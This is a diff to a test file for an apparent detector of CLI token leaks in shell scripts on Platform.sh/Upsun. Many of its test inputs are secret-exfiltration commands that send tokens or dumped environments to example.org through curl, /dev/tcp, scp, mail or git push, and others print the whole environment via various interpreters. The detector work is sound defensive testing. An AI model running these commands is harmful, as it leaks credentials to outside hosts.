@@ -123,6 +123,18 @@ const printing = [
   "printenv | while IFS='=' read -r k v; do echo \"$v\"; done",
   "exec 2>&1\nenv >&2",
   "(env) &\nwait",
+  "exec 3>&1\nenv >&3",
+  "exec 4>&2 >/dev/null\necho $PLATFORMSH_CLI_TOKEN >&4",
+  "bash -c 'declare -p PLATFORMSH_CLI_TOKEN'",
+  `bash -c 'for each in $(compgen -e); do echo "$each=\${!each}"; done'`,
+  `bash -c 'compgen -v | while read -r each; do echo "$each=\${!each}"; done'`,
+  `env | awk -F= '{ print $1 " is " $2 }'`,
+  'NAME=PLATFORMSH_CLI_TOKEN; eval "echo \\$$NAME"',
+  "for each in HOME PLATFORMSH_CLI_TOKEN; do eval echo \\$$each; done",
+  'echo TOKEN | sed "s/TOKEN/$PLATFORMSH_CLI_TOKEN/"',
+  "flock lock -c env",
+  "env -u HOME sh -c env",
+  "bash -xc '[[ -n $PLATFORMSH_CLI_TOKEN ]]'",
 ];
 
 test.each(printing)("what dash is seen to print is found: %j", (script) => {
@@ -194,6 +206,17 @@ const silent = [
   "T=PLATFORMSH_CLI_TOKEN; echo $T",
   "X=$PLATFORMSH_CLI_TOKEN sh -c 'echo hello'; echo $X",
   "env | xargs > all.txt",
+  "exec 3>/dev/null\nenv >&3",
+  "exec 3>all.txt\nenv >&3",
+  "env -u PLATFORMSH_CLI_TOKEN sh -c env",
+  "env -i sh -c env",
+  "printf '#!/bin/sh\\necho mine\\n' > env; chmod +x env; ./env",
+  "bash -c 'compgen -e'",
+  "bash -c 'declare -p PLATFORM_BRANCH'",
+  'NAME=PLATFORM_BRANCH; eval "echo \\$$NAME"',
+  `env | awk -F= '{ print "has " $1 }'`,
+  'echo TOKEN > file; sed -i "s/TOKEN/$PLATFORMSH_CLI_TOKEN/" file',
+  "bash -xc '[[ -n $PLATFORM_BRANCH ]]'",
 ];
 
 test.each(silent)("what dash is seen to keep to itself is no finding: %j", (script) => {
@@ -244,12 +267,95 @@ test.each([
   ["echo $IBEXA_CLI_TOKEN", 1],
   ["echo a $UPSUN_CLI_TOKEN >> /var/log/app.log", 1],
   ["PLATFORMSH_CLI_DEBUG=1 platform backup:list", 1],
+  ["ps auxe", 1],
+  ["ps eww", 1],
+  ["ps -ef", 0],
+  ["ps -C node", 0],
+  ['wget -d --header="A: $PLATFORMSH_CLI_TOKEN" https://api.upsun.com/me', 1],
+  ['http -v https://api.upsun.com/me "Authorization:Bearer $PLATFORMSH_CLI_TOKEN"', 1],
+  ['http https://api.upsun.com/me "Authorization:Bearer $PLATFORMSH_CLI_TOKEN"', 0],
+  ['curl -d "$PLATFORMSH_CLI_TOKEN" example.org', 1],
+  ['curl -s example.org/hook -d "$PLATFORMSH_CLI_TOKEN"', 1],
+  ['curl -d "$PLATFORMSH_CLI_TOKEN" api.upsun.com/me', 0],
+  ['curl -o page.html -H "A: $PLATFORMSH_CLI_TOKEN" https://api.upsun.com/me', 0],
+  ['git push "https://me:$PLATFORMSH_CLI_TOKEN@example.org/shop.git"', 1],
+  ["env > /tmp/all; curl -F file=@/tmp/all https://example.org/", 1],
+  ["env > /tmp/all; curl -T /tmp/all https://example.org/", 1],
+  ["env > /tmp/all; scp /tmp/all me@example.org:", 1],
+  ["env > /tmp/all; mail -s all -a /tmp/all ops@example.org < /dev/null", 1],
+  ["date > /tmp/all; scp /tmp/all me@example.org:", 0],
+  ["env | systemd-cat", 1],
+  ['echo "$PLATFORMSH_CLI_TOKEN" > /dev/tcp/example.org/80', 1],
+  ["su -c env", 1],
+  ["node -pe process.env", 1],
+  ["node -e 'const { env } = process; console.log(env)'", 1],
+  ["node -e 'console.log(Object.keys(process.env))'", 0],
+  ["node -r ./x.js -e 'console.log(process.env)'", 1],
+  ["php --info", 1],
+  ["php -r 'error_log(getenv(\"UPSUN_CLI_TOKEN\"));'", 1],
+  ["php -r 'echo strlen(getenv(\"UPSUN_CLI_TOKEN\"));'", 0],
+  ['php -r \'echo isset($_ENV["UPSUN_CLI_TOKEN"]) ? "yes" : "no";\'', 0],
+  ["php -r 'system(\"env\");'", 1],
+  ["php -r 'passthru(\"env | grep -c A\");'", 0],
+  ["php -r 'echo shell_exec(\"printenv\");'", 1],
+  ["php -r '$all = shell_exec(\"printenv\");'", 0],
+  ["drush ev 'print_r(getenv());'", 1],
+  ["vendor/bin/drush php:eval 'print_r(getenv());'", 1],
+  ["wp eval 'var_dump($_ENV);'", 1],
+  ["php artisan tinker --execute='dump(getenv());'", 1],
+  ["python3 -uc 'from os import environ; print(environ)'", 1],
+  ["python3 -c 'import os, pprint; pprint.pprint(dict(os.environ))'", 1],
+  ["python3 -c 'import os; print(\"UPSUN_CLI_TOKEN\" in os.environ)'", 0],
+  ["python3 -c 'import os; print(len(os.environ))'", 0],
+  ["python3 -c 'import os; print(os.environ.keys())'", 0],
+  ["python3 -c 'import os; os.system(\"env\")'", 1],
+  ["python3 -c 'import subprocess; subprocess.run([\"printenv\"])'", 1],
+  ["perl -le 'print $ENV{UPSUN_CLI_TOKEN}'", 1],
+  [`perl -e 'print "$_\\n" for keys %ENV'`, 0],
+  ["ruby -e 'p ENV'", 1],
+  ["ruby -e 'puts ENV.to_a'", 1],
+  ["ruby -e 'puts ENV.key?(\"UPSUN_CLI_TOKEN\")'", 0],
+  ["rails runner 'puts ENV.to_h'", 1],
 ])("what other programs print is known: %j", (script, count) => {
   expect(tokenLeaks(script, true)).toHaveLength(count);
 });
 
 test("all variables show no token where none of them holds one", () => {
   expect(tokenLeaks("env | sort; cat /proc/self/environ", false)).toEqual([]);
+});
+
+test.each([
+  ["bash bin/say.sh", []],
+  ['bash bin/say.sh "$PLATFORMSH_CLI_TOKEN"', ["prints the token"]],
+  ['bash bin/say.sh "$PLATFORMSH_CLI_TOKEN" > /dev/null', []],
+  ["WORD=$PLATFORMSH_CLI_TOKEN; bash bin/word.sh", []],
+  ['export WORD="$PLATFORMSH_CLI_TOKEN"; bash bin/word.sh', ["prints the token"]],
+  ['WORD="$PLATFORMSH_CLI_TOKEN" ./bin/word.sh', ["prints the token"]],
+  [". bin/log.sh; log done", []],
+  ['. ./bin/log.sh; log "$PLATFORMSH_CLI_TOKEN"', ["prints the token"]],
+  [". /app/bin/set.sh; echo $COPY", ["prints the token"]],
+  ["bash -x bin/sign-in.sh", ["traces a command with the token"]],
+  ["bash bin/sign-in.sh", []],
+  ["sh bin/all.sh", []],
+  ["sh bin/itself.sh", []],
+])("what a script writes for what it is given is found where it is called: %j", (script, says) => {
+  const files = new Map([
+    ["bin/say.sh", 'echo "hello $1"\n'],
+    ["bin/word.sh", "echo $WORD\n"],
+    ["bin/log.sh", 'log() { echo "$(date) $*"; }\n'],
+    ["bin/set.sh", "COPY=$PLATFORMSH_CLI_TOKEN\n"],
+    ["bin/sign-in.sh", 'sign-in "$PLATFORMSH_CLI_TOKEN"\n'],
+    ["bin/all.sh", "env\n"],
+    ["bin/itself.sh", "sh bin/itself.sh; sh bin/itself.sh\n"],
+  ]);
+  expect(tokenLeaks(script, true, { files }).map((leak) => leak.says)).toEqual(says);
+});
+
+test("what every shell reads first counts", () => {
+  const before = "export COPY=$PLATFORMSH_CLI_TOKEN; env";
+  expect(tokenLeaks("echo $COPY", true, { before })).toEqual([
+    { says: "prints the token", start: 0, end: 10 },
+  ]);
 });
 
 test("what comes through a pipe is pointed at with the pipe", () => {
